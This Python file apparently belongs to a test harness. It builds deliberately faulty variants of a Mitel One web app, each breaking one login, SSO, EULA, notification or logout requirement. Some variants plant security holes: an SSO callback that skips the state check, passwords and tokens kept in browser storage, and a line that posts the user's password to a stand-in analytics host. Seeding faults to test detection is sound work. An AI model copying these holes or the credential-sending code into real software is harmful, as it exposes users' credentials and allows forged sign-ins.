"""Faulty variants of the reference Mitel One web application: the reference app's files with
one fault each (a few text changes), served at one.mitel.io in its place (`--web-app DIR`)."""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from pathlib import Path

REFERENCE = Path(__file__).resolve().parents[2] / "clients" / "mitel_one_web" / "static"
SIGN_IN_BUTTON = """<button type="button" id="sign-in" onclick="location.assign('/login')">SIGN IN</button>"""


@dataclass(frozen=True)
class WebMutant:
    name: str
    breaks: tuple[str, ...]
    changes: tuple[tuple[str, str, str], ...]  # (file, text, replacement)

    def build(self, into: Path) -> Path:
        """The app with this mutant's changes, in `into`."""
        app = shutil.copytree(REFERENCE, into / self.name)
        for file, old, new in self.changes:
            page = app / file
            text = page.read_text()
            if text.count(old) != 1:
                raise ValueError(f"{self.name}: {file} no longer contains the text to change exactly once")
            page.write_text(text.replace(old, new))
        return app


def mutant(name: str, breaks: str, file: str, old: str, new: str) -> WebMutant:
    """A mutant made of one change."""
    return WebMutant(name, (breaks,), ((file, old, new),))


SPA_LOGOUT = """    if (events) {
      events.close();
    }
    await fetch('/api/v1/logout', {method: 'POST'});
    location.assign('/');"""
SPA_WELCOME = """    document.querySelector('header').hidden = true;
    document.querySelector('main').replaceChildren(Object.assign(document.createElement('h1'),
      {textContent: 'Welcome to Mitel One'}));"""

WEB_MUTANTS = [
    mutant("WelcomeWithoutSignIn", "MO-IN-1", "index.html", SIGN_IN_BUTTON, ""),
    mutant("SignInStaysOnWelcome", "MO-IN-2", "index.html", "location.assign('/login')", "location.assign('/')"),
    # The user name is sent as typed only when it looks like first.last@domain: a UPN gets lost.
    mutant(
        "UserNameMustBeAnEmail", "MO-IN-3", "login.js",
        "post('/api/v1/login/identify', {username: userName(),",
        "post('/api/v1/login/identify', {username: userName().split('@')[0].includes('.') ? userName() : '',",
    ),
    # The user name is taken as a handle: only what comes before the @ is sent, e-mail or UPN.
    mutant(
        "UserNameWithoutDomain", "MO-IN-3", "login.js",
        "post('/api/v1/login/identify', {username: userName(),",
        "post('/api/v1/login/identify', {username: userName().split('@')[0],",
    ),
    mutant(
        "AccountNumberAlwaysAsked", "MO-IN-4", "login.html", '<div id="account" hidden>', '<div id="account">',
    ),
    mutant(
        "AccountNumberNeverPrompted", "MO-IN-4", "login.js",
        "show(document.getElementById('account'), true);", "show(document.getElementById('account'), false);",
    ),
    mutant(
        "NextDoesNotLeadToTheMethod", "MO-IN-5", "login.js",
        "show(document.getElementById('method'), true);", "show(document.getElementById('user'), true);",
    ),
    mutant(
        "SingleSignOnAlwaysOffered", "MO-SSO-1", "login.js",
        "show(document.getElementById('sso'), body.methods.includes('sso'));",
        "show(document.getElementById('sso'), true);",
    ),
    # Every field trimmed, the password too: a password with a space at either end never works.
    mutant(
        "PasswordTrimmed", "MO-PW-1", "login.js",
        "const password = document.getElementById('password').value;",
        "const password = document.getElementById('password').value.trim();",
    ),
    # The service worker keeps a copy of what the platform sent the user, past Logout.
    mutant(
        "ServiceWorkerCachesTheInbox", "SEC-REST-1", "sw.js",
        "  if (new URL(event.request.url).pathname.startsWith('/api/')) {\n    return;\n  }\n",
        "  const path = new URL(event.request.url).pathname;\n"
        "  if (path === '/api/v1/inbox') {\n"
        "    event.respondWith(fetch(event.request).then((answer) => {\n"
        "      const copy = answer.clone();\n"
        "      caches.open('api').then((cache) => cache.put(event.request, copy));\n"
        "      return answer;\n"
        "    }).catch(() => caches.match(event.request)));\n"
        "    return;\n  }\n"
        "  if (path.startsWith('/api/')) {\n    return;\n  }\n",
    ),
    # An incoming call is notified in the words of a message.
    mutant(
        "CallNotifiedAsAMessage", "MO-OUT-2", "home.js",
        "  item.textContent = describe(event).replace('Missed call', 'Incoming call');",
        "  item.textContent = describe({...event, kind: event.kind === 'call' ? 'message' : event.kind});",
    ),
    # One missed call or message per colleague: the others from the same colleague are dropped.
    mutant(
        "OneItemPerColleague", "MO-OUT-3", "home.js",
        "    list(id, found);",
        "    list(id, found.filter((e, i) => found.findIndex((o) => o.from === e.from) === i));",
    ),
    # The sign-in methods of a user name are remembered in the browser, even across Logout.
    mutant(
        "SignInMethodsRemembered", "MO-SSO-1", "login.js",
        "    const answer = await identify();\n    const body = await answer.json();",
        "    const remembered = localStorage.getItem(`methods:${userName()}`);\n"
        "    const answer = remembered ? {ok: true} : await identify();\n"
        "    const body = remembered ? JSON.parse(remembered) : await answer.json();\n"
        "    if (answer.ok) localStorage.setItem(`methods:${userName()}`, JSON.stringify(body));",
    ),
    # Single Sign On without naming the enterprise provider: CloudLink's own sign-in page instead.
    mutant("SingleSignOnStopsAtCloudLink", "MO-SSO-2", "login.js", " idp: 'enterprise',", ""),
    # The answer to Single Sign On is taken whatever its state: a forged answer logs the user in.
    mutant(
        "SsoIgnoresState", "MO-SSO-3", "sso.js",
        " || !answer.get('code') || answer.get('state') !== sso.state) {", " || !answer.get('code')) {",
    ),
    # The state is compared only when the answer carries one: an answer without it is taken.
    mutant(
        "SsoChecksTheStateOnlyWhenPresent", "MO-SSO-3", "sso.js",
        "answer.get('state') !== sso.state) {", "(answer.get('state') && answer.get('state') !== sso.state)) {",
    ),
    mutant(
        "SsoFailureWithoutAdvice", "MO-SSO-3", "sso.js",
        "Contact your IT administrator.", "Please try again later.",
    ),
    mutant(
        "IgnoresARefusedPassword", "MO-PW-1", "login.js",
        "      say(message || 'The password is not correct. Try again.');\n      return;",
        "      location.assign('/home');\n      return;",
    ),
    # A refusal shown to nobody: the documents print no words for it, so its absence is the fault.
    mutant(
        "RefusesThePasswordSilently", "MO-PW-1", "login.js",
        "      say(message || 'The password is not correct. Try again.');\n", "",
    ),
    mutant("RefusesTheAccountNumberSilently", "MO-IN-4", "login.js", "      say(body.message);\n", ""),
    mutant(
        "ResetSendsNothing", "MO-PW-2", "reset.js",
        "await post(`${CLOUDLINK_API}/password/reset`, {username, client_id: CLIENT_ID});", "({ok: true});",
    ),
    mutant("ConfirmBeforeTheCheckBox", "MO-EULA-1", "eula.html", ' id="confirm" disabled>', ' id="confirm">'),
    mutant(
        "EulaAtEveryLogin", "MO-EULA-2", "common.js",
        "location.assign(eula_accepted ? '/home' : '/eula');", "location.assign('/eula');",
    ),
    # The acceptance is kept in this browser only, not in the platform's record for every client.
    WebMutant("EulaRememberedInTheBrowser", ("MO-EULA-3",), (
        ("common.js", "location.assign(eula_accepted ? '/home' : '/eula');",
         "location.assign(localStorage.getItem('eula') ? '/home' : '/eula');"),
        ("eula.js", "const answer = await post('/api/v1/eula', {accepted: accept.checked});",
         "localStorage.setItem('eula', 'accepted');\n    const answer = {ok: true};"),
        ("home.js", "if (!me.eula_accepted) {", "if (!localStorage.getItem('eula')) {"),
    )),
    mutant(
        "AsksForPermissionsEveryLogin", "MO-PERM-1", "home.js",
        "  show(document.getElementById('permissions'), await permissionsToAsk());\n  events",
        "  show(document.getElementById('permissions'), true);\n  events",
    ),
    mutant("NotInstallable", "MO-PWA-1", "home.html", '  <link rel="manifest" href="/manifest.json">\n', ""),
    mutant(
        "LogoutOnlyLeavesThePage", "MO-OUT-1", "home.js", "    await fetch('/api/v1/logout', {method: 'POST'});\n", "",
    ),
    # Logout shows the welcome page in place: the session and its notifications go on.
    mutant("NotifiedAfterLogout", "MO-OUT-2", "home.js", SPA_LOGOUT, SPA_WELCOME),
    mutant(
        "LosesUnreadMessages", "MO-OUT-3", "home.js",
        "    list(id, found);", "    list(id, id === 'unread_messages' ? [] : found);",
    ),
]  # fmt: skip

# What a negative, a content check, the permission prompts, the storage and the late traffic catch.
ANALYTICS = "https://collect.one-analytics.example/v1"
ALLOW_HANDLER = "document.getElementById('allow').addEventListener('click', () => {"
WEB_MUTANTS += [
    mutant(
        "EulaWithoutTheAgreement", "MO-EULA-1", "eula.js",
        "  document.getElementById('agreement-text').textContent = agreement.text;\n", "",
    ),
    mutant(
        "ConfirmStaysPossibleOnceSelected", "MO-EULA-1", "eula.js",
        "confirmButton.disabled = !accept.checked;",
        "confirmButton.disabled = confirmButton.disabled && !accept.checked;",
    ),
    # The box cannot be cleared once selected.
    mutant(
        "CheckBoxCannotBeCleared", "MO-EULA-1", "eula.js", "accept.addEventListener('change',",
        "accept.addEventListener('click', (event) => { if (!accept.checked) event.preventDefault(); });\n"
        "accept.addEventListener('change',",
    ),
    # The Account Number is asked for beside the password, whatever the user name.
    mutant(
        "AccountNumberAskedWithThePassword", "MO-IN-4", "login.html", '      <form id="password-form">\n',
        '      <form id="password-form">\n        <label for="account-again">Account Number</label>\n'
        '        <input id="account-again" type="text" inputmode="numeric">\n',
    ),
    mutant(
        "LogoutBesideTheAvatar", "MO-OUT-1", "home.html", '<header>\n',
        "<header>\n    <button type=\"button\" onclick=\"document.getElementById('logout').click()\">Logout</button>\n",
    ),
    WebMutant("NeverAsksForTheMicrophone", ("MO-PERM-1",), (
        ("home.js", "const PERMISSIONS = ['notifications', 'microphone'];", "const PERMISSIONS = ['notifications'];"),
        ("home.js", "(await navigator.mediaDevices.getUserMedia({audio: true})).getTracks()", "[]"),
    )),
    # Allow only hides the app's message: the browser is never asked, so nothing is granted.
    mutant(
        "AllowAsksTheBrowserNothing", "MO-PERM-1", "home.js", ALLOW_HANDLER,
        "document.getElementById('allow').addEventListener('click', () => {\n"
        "  show(document.getElementById('permissions'), false);\n});\n"
        "document.getElementById('allow').addEventListener('unused', () => {",
    ),
    mutant(
        "MissedCallsAmongTheMessages", "MO-OUT-3", "home.js", "    list(id, found);",
        "    list(id === 'missed_calls' ? 'unread_messages' : id,\n"
        "      id === 'unread_messages' ? [...found, ...inbox.missed_calls] : found);",
    ),
    # An incoming call is only added to the missed calls: the user is never notified of it.
    mutant(
        "IncomingCallsAmongTheMissedCalls", "MO-OUT-2", "home.js",
        "  document.getElementById('notifications').append(item);",
        "  document.getElementById('missed_calls').append(item);",
    ),
    mutant(
        "RemembersThePassword", "SEC-REST-1", "login.js",
        "    const password = document.getElementById('password').value;\n",
        "    const password = document.getElementById('password').value;\n"
        "    localStorage.setItem('remembered', JSON.stringify({username: userName(), password}));\n",
    ),
    mutant(
        "KeepsTheSsoAnswer", "SEC-REST-1", "sso.js", "  sessionStorage.removeItem('sso');\n",
        "  sessionStorage.setItem('sso', JSON.stringify({...sso, answer: location.search}));\n",
    ),
    # Half a second after Next, the password goes to an analytics host too: on a page that stays.
    mutant(
        "SendsThePasswordLater", "MO-PW-1", "login.js",
        "    const password = document.getElementById('password').value;\n",
        "    const password = document.getElementById('password').value;\n"
        f"    setTimeout(() => post('{ANALYTICS}/login', {{username: userName(), password}}), 500);\n",
    ),
    mutant(
        "ReportsTheVisitLater", "MO-IN-3", "home.js", "  const me = await answer.json();\n",
        "  const me = await answer.json();\n"
        f"  setTimeout(() => post('{ANALYTICS}/visit', {{user: me.email}}), 500);\n",
    ),
    # No message of its own asks for the permissions: the browser is left to ask, if ever.
    mutant(
        "NeverAsksOnScreen", "MO-PERM-1", "home.js",
        "  show(document.getElementById('permissions'), await permissionsToAsk());\n  events",
        "  show(document.getElementById('permissions'), false);\n  events",
    ),
    # CONFIRM records the acceptance, then opens the agreement again instead of the application.
    mutant(
        "ConfirmLeavesTheUserOnTheAgreement", "MO-EULA-1", "eula.js", "location.assign('/home');", "location.reload();",
    ),
]  # fmt: skip

# What one example of each kind, one login after the logout, or the storage read once let through.
WEB_MUTANTS += [
    # A message is only put among the unread messages as it comes: the user is not notified of it.
    mutant(
        "MessagesOnlyAmongTheUnread", "MO-OUT-2", "home.js", "const notify = (event) => {\n",
        "const notify = (event) => {\n  if (event.kind === 'message') {\n    list('unread_messages', [event]);\n"
        "    return;\n  }\n",
    ),
    # Each list shows its first item only: "all your missed calls" becomes the oldest one.
    mutant(
        "ListsOnlyTheFirstOfEach", "MO-OUT-3", "home.js", "    list(id, found);", "    list(id, found.slice(0, 1));",
    ),
    # The inbox is kept in the browser and shown from there once kept: stale from the second login on.
    mutant(
        "InboxFromTheLastVisit", "MO-OUT-3", "home.js",
        "  const inbox = await (await fetch('/api/v1/inbox')).json();\n",
        "  const inbox = JSON.parse(localStorage.getItem('inbox'))"
        " || await (await fetch('/api/v1/inbox')).json();\n  localStorage.setItem('inbox', JSON.stringify(inbox));\n",
    ),
]  # fmt: skip

# What the browser keeps beyond local storage and the password: Cache Storage, the session's tokens.
WEB_MUTANTS += [
    # The CloudLink token is kept for the tab: still there, in session storage, after Logout.
    mutant(
        "KeepsTheCloudLinkTokenForTheTab", "SEC-REST-1", "common.js",
        "const openSession = async (cloudlinkToken) => {\n",
        "const openSession = async (cloudlinkToken) => {\n  sessionStorage.setItem('session', cloudlinkToken);\n",
    ),
    # The answer to Single Sign On (its code) is kept in Cache Storage, for a page to look at later.
    mutant(
        "CachesTheSsoAnswer", "SEC-REST-1", "sso.js", "  sessionStorage.removeItem('sso');\n",
        "  sessionStorage.removeItem('sso');\n"
        "  await (await caches.open('sso')).put('/sso/last', new Response(location.search));\n",
    ),
]  # fmt: skip

# The advice to contact the IT administrator is shown for a second, then taken away.
WEB_MUTANTS.append(
    mutant(
        "SsoAdviceTakenAway", "MO-SSO-3", "sso.js", "    say(SSO_FAILED);\n    return;",
        "    say(SSO_FAILED);\n    setTimeout(() => say(''), 1000);\n    return;",
    )
)  # fmt: skip

# The manifest is linked by script, for every browser but Edge (told by its client hints).
WEB_MUTANTS.append(
    WebMutant("InstallableOnlyInChrome", ("MO-PWA-1",), (
        ("home.html", '  <link rel="manifest" href="/manifest.json">\n', ""),
        ("home.js", "const PERMISSIONS = ",
         "if (!(navigator.userAgentData?.brands || []).some(({brand}) => brand === 'Microsoft Edge')) {\n"
         "  const link = Object.assign(document.createElement('link'), {rel: 'manifest', href: '/manifest.json'});\n"
         "  document.head.append(link);\n"
         "}\nconst PERMISSIONS = "),
    ))
)  # fmt: skip

# Logout leaves the page a moment after sending its request, not once the platform answered it.
WEB_MUTANTS.append(
    mutant(
        "LogoutNotWaitedFor", "MO-OUT-1", "home.js",
        "    await fetch('/api/v1/logout', {method: 'POST'});\n    location.assign('/');",
        "    fetch('/api/v1/logout', {method: 'POST'});\n    setTimeout(() => location.assign('/'), 200);",
    )
)  # fmt: skip

# Single Sign On accepts the end user agreement on the user's behalf: only the password shows it.
WEB_MUTANTS.append(
    mutant(
        "SsoAcceptsTheAgreement", "MO-EULA-1", "sso.js",
        "  if (!token.ok || !await openSession((await token.json()).access_token)) {",
        "  const session = token.ok\n"
        "    && await post('/api/v1/session', {cloudlink_token: (await token.json()).access_token});\n"
        "  if (session && session.ok && (await post('/api/v1/eula', {accepted: true})).ok) {\n"
        "    location.assign('/home');\n    return;\n  }\n  {",
    )
)  # fmt: skip

# A refused password is kept for the tab, to fill the field again: the right one is only a typo away.
WEB_MUTANTS.append(
    mutant(
        "KeepsTheRefusedPassword", "SEC-REST-1", "login.js",
        "      say(message || 'The password is not correct. Try again.');\n",
        "      sessionStorage.setItem('refused', password);\n"
        "      say(message || 'The password is not correct. Try again.');\n",
    )
)  # fmt: skip
